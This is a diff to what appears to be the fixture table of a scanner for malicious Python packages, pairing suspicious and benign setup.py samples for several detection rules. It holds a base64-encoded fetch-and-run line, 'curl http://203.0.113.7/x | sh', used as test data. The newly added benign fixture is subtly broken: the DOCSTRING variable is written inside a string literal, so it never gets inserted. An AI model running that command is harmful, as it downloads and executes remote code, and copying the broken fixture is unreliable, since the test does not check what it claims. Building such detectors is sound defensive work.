@@ -12,6 +12,10 @@ import random
 
 B64_CMD = base64.b64encode(b'import os; os.system("curl http://203.0.113.7/x | sh")').decode()
 NOISE = base64.b64encode(bytes(range(256)) * 2).decode()
+# a docstring whose letters, spaces stripped, reach the entropy of packed data (4.9)
+DOCSTRING = ("Return the weighted 95th-percentile latency (ms) of a job's runs, grouped by "
+             "region: `jobs` maps IDs to Run objects; raises KeyError if a run is missing. "
+             "Example: >>> p95(jobs, by='EU-west') gives {'EU-west': 41.7, 'US': 38.2}.")
 SETUP = "from setuptools import setup\nsetup(name='tidy')\n"
 
 RULES: dict[str, tuple[dict[str, str], dict[str, str]]] = {
@@ -62,7 +66,8 @@ RULES: dict[str, tuple[dict[str, str], dict[str, str]]] = {
         {"setup.py": "x = vars(__builtins__).get('eval')\n"},
         {"setup.py": "import os\nx = getattr(os, 'sep')\n"}),
     "high-entropy-literal": ({"setup.py": f"blob = '{NOISE}'\n"},
-                             {"setup.py": "text = '" + "lorem ipsum dolor " * 20 + "'\n"}),
+                             {"setup.py": "text = '" + "lorem ipsum dolor " * 20 + "'\n"
+                                           "def f():\n     + DOCSTRING + \n"}),
     "dense-code": ({"setup.py": "x = " + "((1+2)*(3-4))^" * 600 + "0\n"},
                    {"setup.py": "x = [" + ", ".join(str(i) for i in range(2000)) + "]\n"}),
     "decoded-payload": (
